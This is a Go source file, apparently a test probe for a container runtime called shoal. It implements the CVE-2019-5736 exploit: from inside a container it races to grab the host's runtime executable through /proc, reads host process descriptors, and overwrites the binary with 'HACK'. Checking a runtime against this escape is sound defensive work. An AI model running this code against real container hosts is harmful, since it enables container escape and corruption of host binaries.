package main

import (
	"fmt"
	"os"
	"strconv"
	"strings"
	"syscall"
	"time"
)

// raceExe is what a hostile container's PID 1 does to reach the host's
// binary (CVE-2019-5736): it watches /proc for processes that do not run
// a file of the container's own root filesystem (a container init or exec
// helper run from the host, or the host binary started as the interpreter
// of /race.sh), keeps an O_PATH handle to each such executable, reads
// the descriptors of inits and helpers, and keeps trying to open each executable caught for
// writing, which succeeds once no process runs it. It prints every
// catch, and last a summary line.
func raceExe(d time.Duration) {
	if err := os.WriteFile("/race.sh", []byte("#!/proc/self/exe\n"), 0o755); err != nil {
		fmt.Printf("race: write /race.sh: %v\n", err)
	}
	var root syscall.Stat_t
	if err := syscall.Stat("/", &root); err != nil {
		fmt.Printf("race: stat /: %v\n", err)
		return
	}
	self := os.Getpid()
	type key struct{ dev, ino uint64 }
	handles := map[key]int{} // executable -> O_PATH fd
	hostFDs := map[string]bool{}
	writable := 0
	deadline := time.Now().Add(d)
	for time.Now().Before(deadline) {
		ents, _ := os.ReadDir("/proc")
		for _, e := range ents {
			pid, err := strconv.Atoi(e.Name())
			if err != nil || pid == self {
				continue
			}
			dir := "/proc/" + e.Name()
			fd, err := syscall.Open(dir+"/exe", oPath|syscall.O_CLOEXEC, 0)
			if err != nil {
				continue
			}
			var st syscall.Stat_t
			if syscall.Fstat(fd, &st) != nil || st.Dev == root.Dev {
				syscall.Close(fd)
				continue
			}
			k := key{st.Dev, st.Ino}
			if _, ok := handles[k]; ok {
				syscall.Close(fd)
			} else {
				handles[k] = fd
				target, _ := os.Readlink(dir + "/exe")
				fmt.Printf("race: caught the executable of pid %d: %s\n", pid, target)
			}
			// A container init or exec helper, still before the
			// exec of the container's program: what it holds came
			// from the host. (The interpreter of /race.sh holds only
			// what it opened in the container.)
			if cmd, _ := os.ReadFile(dir + "/cmdline"); !strings.Contains(string(cmd), "__shoal_") {
				continue
			}
			fdEnts, _ := os.ReadDir(dir + "/fd")
			for _, fe := range fdEnts {
				target, err := os.Readlink(dir + "/fd/" + fe.Name())
				if err != nil {
					continue
				}
				line := fmt.Sprintf("pid %d fd %s -> %s", pid, fe.Name(), target)
				if !hostFDs[line] {
					hostFDs[line] = true
					fmt.Printf("race: saw a descriptor of a host process: %s\n", line)
				}
			}
		}
		for k, h := range handles {
			w, err := syscall.Open("/proc/self/fd/"+strconv.Itoa(h), syscall.O_WRONLY|syscall.O_CLOEXEC, 0)
			if err != nil {
				continue
			}
			if n, err := syscall.Pwrite(w, []byte("HACK"), 0); err == nil && n == 4 {
				writable++
				fmt.Printf("race: wrote to the executable %d:%d\n", k.dev, k.ino)
				syscall.Close(h)
				delete(handles, k)
			}
			syscall.Close(w)
		}
		time.Sleep(200 * time.Microsecond)
	}
	fmt.Printf("race: handles=%d writable=%d hostfds=%d\n", len(handles)+writable, writable, len(hostFDs))
}

// oPath is Linux's O_PATH (as on every architecture shoal builds for),
// which the syscall package lacks.
const oPath = 0x200000
